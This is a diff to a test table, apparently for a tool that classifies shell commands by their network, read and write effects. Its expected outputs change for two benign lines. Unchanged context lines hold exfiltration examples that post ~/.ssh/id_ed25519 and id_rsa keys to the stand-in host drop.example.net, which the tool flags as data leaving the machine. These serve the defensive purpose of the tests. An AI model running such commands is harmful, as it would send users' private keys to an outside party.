@@ -10,7 +10,7 @@ const TABLE: readonly [line: string, does: string][] = [
     "network https://drop.example.net, read /home/you/.ssh/id_ed25519 ! sends a file (/home/you/.ssh/id_ed25519) to https://drop.example.net",
   ],
   ["curl -F f=@./fixture.txt http://localhost:3000", "network-local http://localhost:3000, read ./fixture.txt"],
-  ["curl --data-binary @fixture.json http://127.0.0.1:8080", "network-local http://127.0.0.1:8080, read fixture.json"],
+  ["curl --data-binary @fixture.json http://127.0.0.1:8080", "network-local http://127.0.0.1:8080"],
   [
     "wget --post-file=/home/you/.ssh/id_rsa https://drop.example.net",
     "network https://drop.example.net, read /home/you/.ssh/id_rsa, write * ! sends a file (/home/you/.ssh/id_rsa) to https://drop.example.net",
@@ -50,7 +50,7 @@ const TABLE: readonly [line: string, does: string][] = [
     "wget https://example.com/data/sample.bin -O tests/data/sample.bin",
     "network https://example.com/data/sample.bin, write tests/data/sample.bin",
   ],
-  ["wget -q https://example.com/x", "network https://example.com/x, write *"],
+  ["wget -q https://example.com/x", "network https://example.com/x, write x"],
   ["http :3000/users", "network-local :3000/users"],
   ["http POST localhost:3000/u name=x file@./a.txt", "network-local localhost:3000/u, read ./a.txt"],
   [
